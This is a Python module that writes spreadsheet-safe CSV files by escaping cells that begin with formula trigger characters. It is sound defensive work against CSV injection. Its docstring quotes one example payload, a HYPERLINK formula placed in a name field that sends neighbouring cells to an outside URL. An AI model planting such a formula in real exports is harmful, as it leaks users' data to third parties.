"""CSV files the app produces, safe to open in a spreadsheet (every CSV writer uses `writer`).

A text cell that starts with `=`, `+`, `-` or `@` (or a tab or a line break, which a spreadsheet
skips before reading the rest as a formula) would run as a formula in Excel or LibreOffice:
`=HYPERLINK("http://…?x="&A1, "Click")` typed as a citizen's name sends the neighbouring cells
away. Such a cell is written with a leading apostrophe, which a spreadsheet shows as the text
typed (OWASP, "CSV Injection"). Numbers stay numbers. The file starts with a byte order mark so
that Excel reads it as UTF-8 (Vietnamese names intact)."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Protocol

BOM = "\ufeff"
# The ASCII triggers, and their full-width forms, which some spreadsheets also read as formulas.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Text(Protocol):
    def write(self, text: str, /) -> int: ...


def cell(value: object) -> object:
    """`value` as a CSV cell a spreadsheet shows and never evaluates."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose text cells are never formulas."""

    def __init__(self, out: _Text) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([cell(v) for v in row])


def writer(out: _Text, *, bom: bool = True) -> SafeWriter:
    """A writer into `out`; with `bom`, the byte order mark Excel needs is written first."""
    if bom:
        out.write(BOM)
    return SafeWriter(out)
